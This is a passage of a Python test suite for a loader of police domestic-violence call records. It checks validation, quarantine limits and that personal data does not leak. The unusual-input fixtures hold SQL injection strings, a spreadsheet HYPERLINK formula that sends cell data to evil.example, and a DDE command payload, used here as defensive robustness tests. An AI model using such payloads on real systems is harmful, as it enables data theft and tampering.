    message = str(excinfo.value)
    assert message.startswith(f"{AGENCY} {d.isoformat()}: "), message
    with connect(env) as conn:
        for secret in case.secrets:
            assert secret not in message
            assert find_text(conn, secret) == []
    assert re.search(case.match, message.split(": ", 1)[1] if case.match[0] != "^" else message), \
        message
    if isinstance(excinfo.value, RefusedFile):
        assert excinfo.value.public_message == message
    with connect(env) as conn:
        assert snapshot(conn) == before
        files = extract_files(conn, d)
        if case.stage == "manifest":
            assert files == []  # refused before the file was registered
        else:
            assert [(f["status"], f["reason"]) for f in files] == [("refused", message)]
            assert quarantine(conn, files[0]["file_id"]) == set()
        assert_no_leak(env, conn, message)
        # Nothing of this file reached a table.
        assert find_text(conn, incident(d, 1)) == []


def test_verify_manifest_missing(env: Env) -> None:
    d = date(2024, 6, 30)
    deliver(env.settings, d, good(d), 3, manifest=False)
    with pytest.raises(ManifestMissing, match=r"^WPS 2024-06-30: manifest WPS_ipv_calls_2024-06-30"
                                               r"\.manifest\.json has not arrived$"):
        verify_manifest(env.settings.landing.dir, AGENCY, d)
    # Once the manifest lands, the same delivery verifies.
    deliver(env.settings, d, good(d), 3)
    delivery = verify_manifest(env.settings.landing.dir, AGENCY, d)
    assert (delivery.rows, delivery.sha256) == (3, hashlib.sha256(good(d)).hexdigest())


# ---------------------------------------------------------------------------------------------
# Quarantined rows: every row-level fault in one file (limit raised for that load)

ROW_DAY = date(2024, 6, 3)


@dataclass(frozen=True)
class RowFault:
    id: str
    kind: str                       # base row: declined | given | charged | not_asked
    rows: tuple[Mapping[str, Any], ...]   # overrides, one mapping per row written
    rules: frozenset[str]           # exactly the rules each of these rows breaks


def _f(case_id: str, kind: str, rules: set[str], *rows: Mapping[str, Any]) -> RowFault:
    return RowFault(case_id, kind, rows or ({},), frozenset(rules))


def _before_call(hours: float) -> Callable[[dict[str, Any]], datetime]:
    return lambda r: r["call_received_at"] - timedelta(hours=hours)


R = "required_when_consent_given"
ROW_FAULTS: list[RowFault] = [
    _f("duplicate_incident", "declined", {"incident_id.unique_in_file"},
       {"incident_id": "WPS-DUP-0001"}, {"incident_id": "WPS-DUP-0001"}),
    _f("duplicate_incident_two_versions", "given", {"incident_id.unique_in_file"},
       {"incident_id": "WPS-DUP-0002"}, {"incident_id": "WPS-DUP-0002", "record_version": 2}),
    _f("enum_call_source", "declined", {"call_source.enum"}, {"call_source": "9-1-1"}),
    _f("enum_call_source_trailing_space", "declined", {"call_source.enum"},
       {"call_source": "911 "}),
    _f("enum_call_type_upper_case", "declined", {"call_type.enum"},
       {"call_type": "IPV_ASSAULT"}),
    _f("enum_weapon_synonym", "declined", {"weapon.enum"}, {"weapon": "gun"}),
    _f("enum_relationship", "declined", {"relationship.enum"}, {"relationship": "spouse"}),
    _f("enum_injury_level", "declined", {"injury_level.enum"}, {"injury_level": "serious"}),
    _f("enum_clearance_label", "declined", {"clearance_status.enum"},
       {"clearance_status": "Cleared otherwise"}),
    _f("enum_consent_status", "declined", {"consent_status.enum"}, {"consent_status": "yes"}),
    _f("enum_preferred_contact", "given", {"victim_preferred_contact.enum"},
       {"victim_preferred_contact": "carrier_pigeon"}),
    _f("missing_agency_code", "declined", {"agency_code.required"}, {"agency_code": None}),
    _f("missing_call_type", "declined", {"call_type.required"}, {"call_type": None}),
    _f("missing_patrol_zone", "declined", {"patrol_zone.required"}, {"patrol_zone": None}),
    _f("missing_victim_person_id", "declined", {"victim_person_id.required"},
       {"victim_person_id": None}),
    _f("missing_children_present", "declined", {"children_present.required"},
       {"children_present": None}),
    _f("blank_address_id", "declined", {"address_id.no_control_characters"},
       {"address_id": "   "}),
    _f("control_character_in_officer_id", "declined",
       {"responding_officer_id.no_control_characters"}, {"responding_officer_id": "W10\t37"}),
    _f("timestamp_without_offset", "declined", {"call_received_at.timestamp_with_offset"},
       {"call_received_at": "2024-06-03T09:00:00"}),
    _f("timestamp_invalid_calendar_date", "declined", {"call_received_at.timestamp_with_offset"},
       {"call_received_at": "2024-02-30T10:00:00-05:00"}),
    _f("timestamp_hour_24", "declined", {"call_received_at.timestamp_with_offset"},
       {"call_received_at": "2024-06-03T24:00:00-04:00"}),
    _f("timestamp_date_only", "declined", {"call_received_at.timestamp_with_offset"},
       {"call_received_at": "2024-06-03"}),
    _f("timestamp_spreadsheet_format", "declined", {"call_received_at.timestamp_with_offset"},
       {"call_received_at": "06/03/2024 09:00"}),
    _f("cleared_at_month_13", "declined", {"cleared_at.timestamp_with_offset"},
       {"cleared_at": "2024-13-03T10:00:00-04:00"}),
    _f("consent_recorded_at_not_a_time", "declined",
       {"consent_recorded_at.timestamp_with_offset"}, {"consent_recorded_at": "yesterday"}),
    _f("call_in_future", "not_asked", {"call_received_at.range"},
       {"call_received_at": "2024-06-04T03:00:00-04:00"}),
    _f("call_before_2000", "not_asked", {"call_received_at.range"},
       {"call_received_at": "1999-12-31T23:59:59Z"}),
    _f("cleared_before_call", "declined", {"cleared_at.not_before_call"},
       {"cleared_at": _before_call(1)}),
    _f("cleared_in_future", "declined", {"cleared_at.not_in_future"},
       {"cleared_at": "2024-06-05T10:00:00-04:00"}),
    _f("consent_recorded_before_call", "declined", {"consent_recorded_at.not_before_call"},
       {"consent_recorded_at": _before_call(0.5)}),
    _f("consent_declined_without_time", "declined",
       {"consent_recorded_at.required_for_consent_answer"}, {"consent_recorded_at": None}),
    _f("charges_without_charge_clearance", "declined", {"charges_laid.matches_clearance"},
       {"charges_laid": 2}),
    _f("charge_clearance_without_charges", "charged", {"charges_laid.matches_clearance"},
       {"charges_laid": 0}),
    _f("charges_negative", "declined", {"charges_laid.integer_min_0"}, {"charges_laid": -1}),
    _f("charges_not_integer", "declined", {"charges_laid.integer_min_0"},
       {"charges_laid": "1.5"}),
    _f("not_applicable_consent_while_not_charged", "not_asked",
       {"consent_status.not_applicable_iff_charged"}, {"consent_status": "not_applicable"}),
    _f("charged_but_consent_declined", "charged", {"consent_status.not_applicable_iff_charged"},
       {"consent_status": "declined", "consent_recorded_at": lambda r: r["cleared_at"]}),
    _f("consent_given_without_names", "given",
       {f"victim_given_name.{R}", f"victim_family_name.{R}"},
       {"victim_given_name": None, "victim_family_name": None}),
    _f("consent_given_without_phone_and_email", "given",
       {"victim_phone.required_with_email_when_consent_given"},
       {"victim_phone": None, "victim_email": None, "victim_preferred_contact": "in_person"}),
    _f("consent_given_without_officer", "given", {f"consent_officer_id.{R}"},
       {"consent_officer_id": None}),
    _f("consent_given_without_preferred_contact", "given", {f"victim_preferred_contact.{R}"},
       {"victim_preferred_contact": None}),
    _f("wrong_agency_in_row", "declined", {"agency_code.matches_file"}, {"agency_code": "LPS"}),
    _f("agency_lower_case", "declined", {"agency_code.format"}, {"agency_code": "wps"}),
    _f("agency_too_long", "declined",
       {"agency_code.format", "agency_code.max_length", "agency_code.matches_file"},
       {"agency_code": "WINDSORPS"}),
    _f("phone_not_e164", "given", {"victim_phone.e164"}, {"victim_phone": "519-555-0142"}),
    _f("phone_too_short", "given", {"victim_phone.e164"}, {"victim_phone": "+1555"}),
    _f("phone_leading_zero", "given", {"victim_phone.e164"}, {"victim_phone": "+05195550142"}),
    _f("postal_code_us_zip", "given", {"victim_postal_code.format"},
       {"victim_postal_code": "90210"}),
    _f("postal_code_with_dash", "given", {"victim_postal_code.format"},
       {"victim_postal_code": "N9A-1A1"}),
    _f("email_without_domain", "given", {"victim_email.format"}, {"victim_email": "jane.doe@"}),
    _f("language_upper_case", "given", {"victim_language.iso639_1"}, {"victim_language": "EN"}),
    _f("language_three_letters", "given",
       {"victim_language.iso639_1", "victim_language.max_length"}, {"victim_language": "eng"}),
    _f("incident_id_lower_case", "declined", {"incident_id.format"},
       {"incident_id": "wps-2024-0001"}),
    _f("incident_id_with_spaces", "declined", {"incident_id.format"},
       {"incident_id": "WPS 2024 0001"}),
    _f("incident_id_fullwidth_digits", "declined", {"incident_id.format"},
       {"incident_id": "WPS-2024-\uff10\uff11"}),
    _f("incident_id_33_characters", "declined", {"incident_id.format", "incident_id.max_length"},
       {"incident_id": "WPS-" + "9" * 29}),
    _f("record_version_zero", "declined", {"record_version.integer_min_1"},
       {"record_version": 0}),
    _f("record_version_negative", "declined", {"record_version.integer_min_1"},
       {"record_version": -1}),
    _f("record_version_decimal", "declined", {"record_version.integer_min_1"},
       {"record_version": "1.0"}),
    _f("record_version_text", "declined", {"record_version.integer_min_1"},
       {"record_version": "v2"}),
    _f("children_present_yes", "declined", {"children_present.boolean"},
       {"children_present": "yes"}),
    _f("substance_involved_upper_case", "declined", {"substance_involved.boolean"},
       {"substance_involved": "TRUE"}),
    _f("birth_year_1899", "given", {"victim_birth_year.range"}, {"victim_birth_year": 1899}),
    _f("birth_year_after_extract_year", "given", {"victim_birth_year.range"},
       {"victim_birth_year": 2025}),
    _f("birth_year_not_a_number", "given", {"victim_birth_year.range"},
       {"victim_birth_year": "19x0"}),
    _f("oversized_given_name", "given", {"victim_given_name.max_length"},
       {"victim_given_name": CANARY + "x" * 200}),
    _f("oversized_safe_contact_notes", "given", {"victim_safe_contact_notes.max_length"},
       {"victim_safe_contact_notes": CANARY + " " + "y" * 2000}),
    _f("oversized_patrol_zone", "declined", {"patrol_zone.max_length"},
       {"patrol_zone": "Z" * 33}),
    _f("oversized_narrative_1mb", "declined", {"narrative.max_length"},
       {"narrative": NARRATIVE_CANARY + "z" * 1_000_000}),
]
assert len({c.id for c in ROW_FAULTS}) == len(ROW_FAULTS)
assert all(rule in RULES_BY_NAME for c in ROW_FAULTS for rule in c.rules)

WELL_FORMED_ID = re.compile(r"^[A-Z0-9-]{1,32}$")


@dataclass
class RowFaultLoad:
    result: LoadResult
    rows: list[dict[str, Any]]                   # as written, in file order
    case_rows: dict[str, list[int]]              # case id -> row numbers (1-based)
    good_rows: list[dict[str, Any]]
    quarantine: set[tuple[int, str | None, str, str]]
    call_ids_of_file: set[str]
    leaks: dict[str, list[str]]
    staging_tables: int


@pytest.fixture(scope="module")
def row_faults(env: Env) -> RowFaultLoad:
    d = ROW_DAY
    rng = random.Random(603)
    bad: list[tuple[str, dict[str, Any]]] = []
    for i, case in enumerate(ROW_FAULTS):
        for j, over in enumerate(case.rows):
            bad.append((case.id, _apply(KINDS[case.kind](d, 100 + 2 * i + j), over)))
    good_rows = [declined_row(d, 1), given_row(d, 2, "Zoë", "Tremblay"), charged_row(d, 3),
                 not_asked_row(d, 4), *filler_rows(d, 120, seed=603)]
    labelled = [(None, r) for r in good_rows] + bad
    rng.shuffle(labelled)
    rows = [r for _, r in labelled]
    case_rows: dict[str, list[int]] = {}
    for number, (case_id, _) in enumerate(labelled, start=1):
        if case_id is not None:
            case_rows.setdefault(case_id, []).append(number)
    write_rows(env.settings, d, rows)
    result = load(env, d, validate__quarantine_max_share=0.5)
    with connect(env) as conn:
        return RowFaultLoad(
            result=result, rows=rows, case_rows=case_rows, good_rows=good_rows,
            quarantine=quarantine(conn, result.file_id),
            call_ids_of_file={r["incident_id"] for r in conn.execute(
                "SELECT incident_id FROM core.call_version WHERE file_id = %s",
                (result.file_id,))},
            leaks={needle: find_text(conn, needle) + files_containing(env.gx_root, needle)
                   for needle in (CANARY, NARRATIVE_CANARY)},
            staging_tables=staging_tables(conn),
        )


def _expected_quarantine(load_: RowFaultLoad, case: RowFault) -> set[tuple[int, str | None, str, str]]:
    out = set()
    for number in load_.case_rows[case.id]:
        raw_id = fmt(load_.rows[number - 1]["incident_id"])
        well_formed = raw_id if WELL_FORMED_ID.match(raw_id) else None
        out |= {(number, well_formed, rule, RULES_BY_NAME[rule].column) for rule in case.rules}
    return out


@pytest.mark.parametrize("case", ROW_FAULTS, ids=lambda c: c.id)
def test_row_fault_quarantined(row_faults: RowFaultLoad, case: RowFault) -> None:
    numbers = row_faults.case_rows[case.id]
    assert len(numbers) == len(case.rows)
    got = {q for q in row_faults.quarantine if q[0] in numbers}
    assert got == _expected_quarantine(row_faults, case)
    for number in numbers:
        assert fmt(row_faults.rows[number - 1]["incident_id"]) not in row_faults.call_ids_of_file


def test_row_fault_file_totals(row_faults: RowFaultLoad) -> None:
    result = row_faults.result
    n_bad = sum(len(c.rows) for c in ROW_FAULTS)
    n_good = len(row_faults.good_rows)
    assert result.outcome == "loaded"
    assert (result.rows_in_file, result.rows_quarantined, result.rows_loaded, result.rows_stale) \
        == (n_bad + n_good, n_bad, n_good, 0)
    assert result.quarantined_share == pytest.approx(n_bad / (n_bad + n_good))
    expected = set().union(*(_expected_quarantine(row_faults, c) for c in ROW_FAULTS))
    assert row_faults.quarantine == expected  # nothing more, nothing less
    assert result.quarantine_by_rule == dict(Counter(q[2] for q in expected))
    assert result.unknown_columns == []


def test_row_fault_file_good_rows_loaded_untouched(env: Env, row_faults: RowFaultLoad) -> None:
    with connect(env) as conn:
        assert_stored_exactly(conn, row_faults.good_rows, row_faults.result.file_id, ROW_DAY)
    assert row_faults.call_ids_of_file == {r["incident_id"] for r in row_faults.good_rows}
    assert any(r["consent_status"] == "given" for r in row_faults.good_rows[4:])


def test_row_fault_file_keeps_no_personal_data(row_faults: RowFaultLoad) -> None:
    """Quarantine, GX results and Data Docs hold identifiers only: no name, no narrative."""
    assert row_faults.leaks == {CANARY: [], NARRATIVE_CANARY: []}
    assert row_faults.staging_tables == 0


@pytest.mark.parametrize("column", ["record_version", "charges_laid"])
def test_integer_overflow_is_quarantined(env: Env, baseline: LoadResult, column: str) -> None:
    d = date(2024, 6, 10) if column == "record_version" else date(2024, 6, 11)
    rows = [charged_row(d, 1, **{column: "9999999999"}),
            *filler_rows(d, 39, seed=610, prefix="O")]
    write_rows(env.settings, d, rows)
    try:
        result = load(env, d)
    except psycopg.Error as exc:
        raise AssertionError(f"load crashed: {type(exc).__name__}: {exc}") from None
    assert result.outcome == "loaded"
    with connect(env) as conn:
        rules = {q[2] for q in quarantine(conn, result.file_id)}
        assert rules and all(RULES_BY_NAME[r].column == column for r in rules)
        assert_stored_exactly(conn, rows[1:], result.file_id, d)


def test_manifest_generated_at_in_future_does_not_admit_future_calls(
        env: Env, baseline: LoadResult) -> None:
    d = date(2024, 6, 12)
    future = not_asked_row(d, 1, call_received_at="2090-01-01T00:00:00Z")
    rows = [future, *filler_rows(d, 39, seed=612, prefix="G")]
    write_rows(env.settings, d, rows, generated_at=datetime(2099, 1, 1, tzinfo=UTC))
    try:
        load(env, d)
    except RefusedFile:
        pass  # refusing the delivery is a fine answer too
    with connect(env) as conn:
        stored = conn.execute("SELECT 1 FROM core.call WHERE incident_id = %s",
                              (future["incident_id"],)).fetchall()
    assert stored == []


# ---------------------------------------------------------------------------------------------
# The quarantine limits (default 5 % and 5 rows)


def test_too_many_bad_rows_refuses_the_file(env: Env, baseline: LoadResult) -> None:
    d = date(2024, 6, 13)
    rows = filler_rows(d, 37, seed=613, prefix="T")
    rows[5:5] = [declined_row(d, 1, call_source="9-1-1"),
                 KINDS["given"](d, 2) | {"victim_phone": "519-555-0101"},
                 declined_row(d, 3, call_source="9-1-1")]
    write_rows(env.settings, d, rows)
    with connect(env) as conn:
        before = snapshot(conn)
    with pytest.raises(RefusedFile) as excinfo:
        load(env, d, validate__quarantine_max_rows=2)  # both limits exceeded (more: test_quarantine_limits)
    message = str(excinfo.value)
    assert message == (
        "WPS 2024-06-13: 3 of 40 rows (7.5%) broke contract rules, above both limits (5.0% and "
        "2 rows): nothing loaded (top rules: call_source.enum x2, victim_phone.e164 x1)")
    with connect(env) as conn:
        assert snapshot(conn) == before
        [file] = extract_files(conn, d)
        assert (file["status"], file["reason"], file["rows_in_file"], file["rows_quarantined"]) \
            == ("refused", message, 40, 3)
        # The quarantine report of a refused file is kept.
        assert quarantine(conn, file["file_id"]) == {
            (6, incident(d, 1), "call_source.enum", "call_source"),
            (7, incident(d, 2), "victim_phone.e164", "victim_phone"),
            (8, incident(d, 3), "call_source.enum", "call_source"),
        }
        assert_no_leak(env, conn, message)


def test_bad_share_exactly_at_the_limit_loads(env: Env, baseline: LoadResult) -> None:
    d = date(2024, 6, 14)
    rows = filler_rows(d, 19, seed=614, prefix="L")
    rows.insert(0, declined_row(d, 1, record_version=0))
    write_rows(env.settings, d, rows)
    result = load(env, d)
    assert (result.outcome, result.rows_quarantined, result.rows_loaded) == ("loaded", 1, 19)
    assert result.quarantined_share == 0.05
    with connect(env) as conn:
        assert quarantine(conn, result.file_id) == {
            (1, incident(d, 1), "record_version.integer_min_1", "record_version")}
        assert_stored_exactly(conn, rows[1:], result.file_id, d)
        assert_no_leak(env, conn)


# ---------------------------------------------------------------------------------------------
# A stale record_version


def test_stale_record_versions_are_ignored(env: Env, baseline: LoadResult) -> None:
    """v2 loaded on BASE_DAY; a later day brings v1 (older) and another v2 (equal): both stay
    in call_version, neither becomes current, both count as stale, contact stays."""
    d = date(2024, 6, 15)
    old = [r for r in baseline_rows() if r["incident_id"].startswith("WPS-STALE-")]
    stale = [declined_row(d, 1, incident_id="WPS-STALE-1", record_version=1, patrol_zone="Z9"),
             charged_row(d, 2, incident_id="WPS-STALE-2", record_version=2, charges_laid=3)]
    fresh = [declined_row(d, 3), given_row(d, 4, "Linh", "Nguyễn")]
    write_rows(env.settings, d, stale + fresh)
    result = load(env, d)
    assert (result.outcome, result.rows_loaded, result.rows_stale, result.rows_quarantined) \
        == ("loaded", 4, 2, 0)
    with connect(env) as conn:
        assert_stored_exactly(conn, old, baseline.file_id, BASE_DAY)  # incl. STALE-1's contact
        assert_stored_exactly(conn, fresh, result.file_id, d)
        versions = conn.execute(
            "SELECT incident_id, record_version, file_id FROM core.call_version"
            " WHERE incident_id LIKE %s ORDER BY 1, 2, 3", ("WPS-STALE-%",)).fetchall()
        assert [tuple(v.values()) for v in versions] == [
            ("WPS-STALE-1", 1, result.file_id), ("WPS-STALE-1", 2, baseline.file_id),
            ("WPS-STALE-2", 2, baseline.file_id), ("WPS-STALE-2", 2, result.file_id)]
        [file] = extract_files(conn, d)
        assert (file["status"], file["rows_stale"]) == ("loaded", 2)
        assert_no_leak(env, conn)


# ---------------------------------------------------------------------------------------------
# Valid but unusual files: loaded untouched

UNUSUAL_NAMES = [
    ("Zoë", "Côté"), ("芳", "李"), ("محمد", "حداد"), ("Thảo", "Nguyễn"), ("प्रिया", "Singh"),
    ("Ольга", "Шевченко"), ("Seán", "O'Brien"), ("Marie-Ève", "Bélanger-Lévesque"),
    ("Robert'); DROP TABLE core.call;--", "Tables"), ('=HYPERLINK("http://x.example","y")', "+SUM(A1)"),
    ("@cmd", "-2+3"), ("Ana Sofía", "Núñez\u200d"),
]
UNUSUAL_NOTES = [
    'say you are calling from "the clinic", then hang up',
    "call after 6pm,\npartner works days",
    "line one\r\nline two, with \"quotes\"\nand a trailing newline\n",
    "'; DROP TABLE core.call; --",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "tab\there; emoji 🙂; RTL \u202eevil\u202c; backslash \\N and \\.",
    "", None, "  leading and trailing spaces  ", "NULL",
]


def unusual_rows(d: date) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for i, (given, family) in enumerate(UNUSUAL_NAMES):
        notes = UNUSUAL_NOTES[i % len(UNUSUAL_NOTES)]
        rows.append(given_row(
            d, 10 + i, given, family, victim_safe_contact_notes=notes or None,
            victim_email=None if i % 3 == 0 else f"person{i}@example.org",
            victim_preferred_contact="email" if i % 3 else "text",
            victim_language=None if i % 4 == 0 else "ar",
            victim_postal_code=None if i % 5 == 0 else "N8X 3Y7",
            narrative=f"{NARRATIVE_CANARY}, {notes or ''}\n\"; DROP TABLE core.call; --",
        ))
    # Timestamps in other ISO 8601 spellings: Z, +05:30, basic-format offset, fractions, space.
    call = call_at(d, 40)
    rows.append(declined_row(
        d, 40, call_received_at=call.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        cleared_at=(call + timedelta(hours=2)).astimezone(ZoneInfo("Asia/Kolkata")).isoformat(),
        consent_recorded_at=(call + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.123456%z")))
    rows.append(charged_row(
        d, 41, call_received_at=call.strftime("%Y-%m-%d %H:%M%z")[:-2],  # '... 06:00-04'
        cleared_at=(call + timedelta(minutes=90)).astimezone(UTC).isoformat(timespec="milliseconds")))
    rows.append(not_asked_row(d, 42, narrative=f"=cmd|' /C calc'!A0 {NARRATIVE_CANARY}",
                              patrol_zone="Z-ÉST", responding_officer_id="W 1037/ß"))
    return rows


@dataclass(frozen=True)
class Unusual:
    id: str
    rows: Callable[[date], list[dict[str, Any]]]
    write: Callable[[Settings, date, list[dict[str, Any]]], None]
    unknown_columns: tuple[str, ...] = ()
    bug: str | None = None


def _write_raw(make: Callable[[list[dict[str, Any]]], bytes], **manifest: Any):
    return lambda s, d, rows: deliver(s, d, make(rows), len(rows), **manifest)


def _quirky_manifest(s: Settings, d: date, rows: list[dict[str, Any]]) -> None:
    """Quoted header names, no newline after the last record, and a manifest with a BOM, an
    upper-case sha256, an extra key and generated_at in UTC ('Z')."""
    data = render(rows, quoting=csv.QUOTE_MINIMAL)
    header, rest = data.split(b"\n", 1)
    data = b",".join(b'"' + n + b'"' for n in header.split(b",")) + b"\n" + rest.rstrip(b"\n")
    doc = manifest_doc(d, data, len(rows), exporter="RMS 9.2 (nightly)",
                       generated_at=generated_at(d).astimezone(UTC).isoformat().replace(
                           "+00:00", "Z"))
    doc["sha256"] = doc["sha256"].upper()
    deliver(s, d, data, len(rows),
            manifest_bytes=b"\xef\xbb\xbf" + json.dumps(doc, ensure_ascii=False).encode())


EXTRA = ("officer_notes", "row_number", "victim_sin")


def _with_extras(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [r | {"officer_notes": f"{NARRATIVE_CANARY}, see report", "row_number": "x",
                 "victim_sin": f"{CANARY} 046 454 286"} for r in rows]


UNUSUAL: list[Unusual] = [
    Unusual("utf8_bom", unusual_rows, lambda s, d, rows: write_rows(s, d, rows, bom=True)),
    Unusual("crlf_line_ends", unusual_rows,
            lambda s, d, rows: write_rows(s, d, rows, line_ending="\r\n")),
    Unusual("excel_style_bom_and_crlf", unusual_rows,
            lambda s, d, rows: write_rows(s, d, rows, bom=True, line_ending="\r\n")),
    Unusual("quoted_line_breaks_commas_quotes_scripts_sql_formulas_offsets", unusual_rows,
            write_rows),
    Unusual("reordered_columns", unusual_rows,
            lambda s, d, rows: write_rows(s, d, rows, columns=FIELDS[::-1])),
    Unusual("unknown_extra_columns", lambda d: _with_extras(unusual_rows(d)),
            lambda s, d, rows: write_rows(
                s, d, rows, columns=(EXTRA[0], *FIELDS[:10], EXTRA[1], *FIELDS[10:], EXTRA[2])),
            unknown_columns=EXTRA),
    Unusual("header_only_day", lambda d: [], write_rows),
    Unusual("optional_columns_absent",
            lambda d: [{c: v for c, v in r.items() if c in REQUIRED_COLUMNS}
                       for r in (not_asked_row(d, 1), charged_row(d, 2),
                                 not_asked_row(d, 3, clearance_status="no_offence"))],
            lambda s, d, rows: write_rows(s, d, rows, columns=REQUIRED_COLUMNS)),
    Unusual("quoted_header_no_final_newline_quirky_manifest", unusual_rows, _quirky_manifest),
    Unusual("every_field_quoted", unusual_rows,
            _write_raw(lambda rows: render(rows, quoting=csv.QUOTE_ALL))),
]


@pytest.mark.parametrize(
    "case",
    [pytest.param(c, id=c.id, marks=[pytest.mark.xfail(strict=True, reason=f"bug: {c.bug}")]
                  if c.bug else []) for c in UNUSUAL])
def test_valid_unusual_file_loads_untouched(env: Env, baseline: LoadResult, case: Unusual) -> None:
    d = date(2024, 8, 1) + timedelta(days=UNUSUAL.index(case))
    rows = case.rows(d)
    case.write(env.settings, d, rows)
    with connect(env) as conn:
        before = snapshot(conn)
    result = load(env, d)
    assert (result.outcome, result.rows_in_file, result.rows_loaded, result.rows_quarantined,
            result.rows_stale) == ("loaded", len(rows), len(rows), 0, 0), result
    assert result.quarantine_by_rule == {}
    assert result.unknown_columns == list(case.unknown_columns)
    with connect(env) as conn:
        [file] = extract_files(conn, d)
        assert (file["status"], file["reason"], file["unknown_columns"]) == \
            ("loaded", None, list(case.unknown_columns))
        assert quarantine(conn, result.file_id) == set()
        if rows:
            assert_stored_exactly(conn, rows, result.file_id, d)
        else:
            assert snapshot(conn) == before
        assert_no_leak(env, conn)
